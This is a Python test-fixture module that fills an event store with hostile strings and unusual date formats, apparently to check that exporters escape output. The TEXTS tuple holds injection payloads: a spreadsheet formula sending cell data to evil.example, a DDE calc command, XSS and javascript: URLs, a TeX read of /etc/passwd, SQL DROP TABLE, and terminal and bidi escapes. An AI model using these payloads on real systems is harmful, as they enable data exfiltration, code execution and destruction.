"""A store whose texts want to be run by whatever reads them, and whose dates few formats have."""

from typing import Any

TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    r"\input{/etc/passwd} $x$ 100% {unbalanced # & _ ~ ^",
    'quoted "]; click n1 "javascript:alert(1)" end',
    "BEGIN:VEVENT\nSUMMARY:injected\nEND:VEVENT",
    "[link](javascript:alert(1)) `code` **bold** | cell [^1] #tag @who",
    "escape \x1b[31mred\x07 turn \u202eback line\u2028end",
    "-->]]></data><x a='1'>&amp;&lt;",
    "1990: another entry\n\n---\nid: stolen",
    "'; DROP TABLE events; --",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""Texts that would do something in a spreadsheet, a page, TeX, a diagram, a calendar, Markdown, a terminal."""

DATES = {
    "bc": "-0043-03-15",
    "far-future": "Y12000",
    "far-past": "Y-400000",
    "undated": "XXXX",
    "open-end": "1989/..",
    "open-start": "../1985",
    "unknown-end": "2015-11/",
    "several": "[1863,1865]",
    "about": "1950~",
    "doubtful": "1984-11?",
    "last-day": "9999-12-31",
    "season": "1990-23",
    "decade": "198X",
    "early": "0079-08-24",
}
"""Dates by the id of the event that bears them."""

ENTITIES: tuple[dict[str, Any], ...] = (
    {"kind": "region", "id": "here", "name": TEXTS[1], "type": "country", "lat": "-12.5", "lon": "45"},
    {"kind": "region", "id": "nowhere", "name": "Nowhere", "type": "area"},
    {"kind": "actor", "id": "one", "name": TEXTS[3], "type": "person", "aliases": [{"name": TEXTS[0]}]},
    {"kind": "actor", "id": "other", "name": TEXTS[7], "type": "agency"},
    {"kind": "actor", "id": "third", "name": "1. `list` and others", "type": "people"},
    {
        "kind": "source",
        "id": "work",
        "type": "book",
        "title": TEXTS[2],
        "issued": "1984~",
        "author": ["one", "A and B, Inc. {x"],
        "url": "javascript:alert(1)}\\end",
        "note": TEXTS[6],
        "read": True,
    },
)

PEOPLE = [{"actor": "one", "role": "lead"}, {"actor": "other", "role": "target"}, {"name": TEXTS[5]}]


def _event(name: str, title: str, date: str, region: str) -> dict[str, Any]:
    return {
        "kind": "event",
        "id": name,
        "title": title,
        "summary": title,
        "date": date,
        "regions": [{"id": region}],
        "participants": PEOPLE,
        "kinds": ["meeting"],
        "topics": ["heroin"],
        "status": "reported",
        "sources": [{"source": "work", "locator": title}],
    }


EVENTS: tuple[dict[str, Any], ...] = (
    *(_event(f"text-{number}", text, "1984-11-26", "here") for number, text in enumerate(TEXTS)),
    *(_event(name, f"Event of {name}", date, "nowhere") for name, date in DATES.items()),
)
